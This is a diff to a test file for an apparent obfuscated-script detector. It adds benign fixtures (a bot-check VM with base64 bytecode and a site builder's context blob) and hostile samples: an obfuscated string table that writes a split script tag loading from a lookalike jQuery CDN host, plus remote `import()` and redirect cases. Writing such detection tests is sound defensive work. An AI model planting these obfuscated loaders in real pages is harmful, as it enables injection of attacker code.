@@ -847,6 +847,21 @@ ICON_FONT = (
     + base64.b64encode(bytes(range(256)) * 3).decode()
     + ")');f.load().then(function(l){document.fonts.add(l)});</script>")
 
+# a bot check's VM handed its program as base64 bytecode (BotGuard's inline shape)
+BOT_CHECK_VM = (
+    "<script nonce=\"n0nce\">(function(){var l=this||self,G=function(q,X){for(var k=q.split('.')"
+    ",g=l,a;k.length&&(a=k.shift());)!k.length&&X!==void 0?g[a]=X:g=g[a]?g[a]:g[a]={}},y=fun"
+    "ction(q){var X=atob(q),k=new Uint8Array(X.length);for(var g=0;g<X.length;g++)k[g]=X.char"
+    "CodeAt(g);return k};G('botguard.bg',function(q,X){this.p=y(q);this.cb=X});})();new botgu"
+    "ard.bg('" + base64.b64encode(bytes((i * 37 + 11) % 256 for i in range(900))).decode()
+    + "',function(r){document.getElementById('bgresponse').value=r});</script>")
+# a site builder's context: JSON whose slashes are `\u002F` escapes
+SITE_CONTEXT = ("<script>Static = window.Static || {}; Static.SQUARESPACE_CONTEXT = " + json.dumps({
+    "website": {"id": "5f1a2b3c4d5e6f7a8b9c0d1e", "baseUrl": "https://studio-kiln.example",
+                "logoImageUrl": "//images.squarespace-cdn.com/content/v1/5f1a2b/logo.png"},
+    "templateScript": "https://static1.squarespace.com/static/vta/5c5a5197/scripts/site-bundle"
+                      ".js"}).replace("/", "\\u002F") + ";</script>")
+
 GENERATED: list[tuple[str, str, Severity | None]] = [
     # (what, page, the obfuscated-script severity it may have: None for none)
     ("a theme's licence check posting to its licence server", page(
@@ -863,6 +878,8 @@ GENERATED: list[tuple[str, str, Severity | None]] = [
     ("an Emscripten loader with its wasm as base64", page(foot=EMSCRIPTEN), None),
     ("a bundle's translations as base64 JSON", page(foot=I18N), None),
     ("an icon font as base64 in a script", page(foot=ICON_FONT), None),
+    ("a bot check's VM and its base64 bytecode", page(foot=BOT_CHECK_VM), None),
+    ("a site builder's context with escaped slashes", page(foot=SITE_CONTEXT), None),
 ]
 
 
@@ -913,6 +930,10 @@ _NDSW = (
 _WRITE_WORDS = ['<script src="https://cdn.jqueryui-lib.example/ui.js"></script>', "write",
                 "a", "b", "c"]
 _WRITE = f"(function(){{var _0x1=_0x5e6f;document[{_at(1)}]({_at(0)});}}());"
+# the same tag split over the table, joined as it is written
+_PIECES_WORDS = ["<scr", 'ipt src="https://cdn.jqueryui-lib.example/ui.js"></scr', "ipt>", "write"]
+_PIECES = (f"(function(){{var _0x1=_0x5e6f;document[{_at(3)}]({_at(0)}+{_at(1)}+{_at(2)});}}"
+           "());")
 
 
 
@@ -965,6 +986,8 @@ TABLE_TWINS: list[tuple[str, str, str, str]] = [
      _NDSW_WORDS[0]),
     ("a table writing a script tag", rotated(_WRITE_WORDS, _WRITE), "loads",
      "https://cdn.jqueryui-lib.example/ui.js"),
+    ("a table writing a script tag split in pieces", rotated(_PIECES_WORDS, _PIECES), "loads",
+     "https://cdn.jqueryui-lib.example/ui.js"),
 ]
 
 
@@ -992,8 +1015,12 @@ def test_a_string_table_that_loads_or_redirects_stays_high(
     ("window[a(1)][a(2)]=a(0)", ["location", "href"], {"navigate"}),
     ("window[t[4]][t[3]]=t[5]", ["location", "href"], {"navigate"}),
     ("window[a(1)][a(2)](a(0))", ["location", "replace"], {"navigate"}),
+    ("location[a(2)](a(0))", ["location", "assign"], {"navigate"}),
+    ("import(a(0)).then(m=>m.run())", ["https://x.example/m"], {"script"}),
     ("f({d:window[a(1)][a(2)]})", ["location", "hostname"], set()),
     ("window[a(1)][a(2)]()", ["location", "reload"], set()),
+    ("d=document[a(3)](a(4));x=y[a(2)](/w/,'')", ["location", "replace", "createElement"],
+     set()),
     ("window[a(3)][a(4)](a(5))", ["location", "hostname", "console", "warn"], set()),
 ])
 def test_table_acts_read_what_the_code_does(code: str, words: list[str], acts: set[str]) -> None:
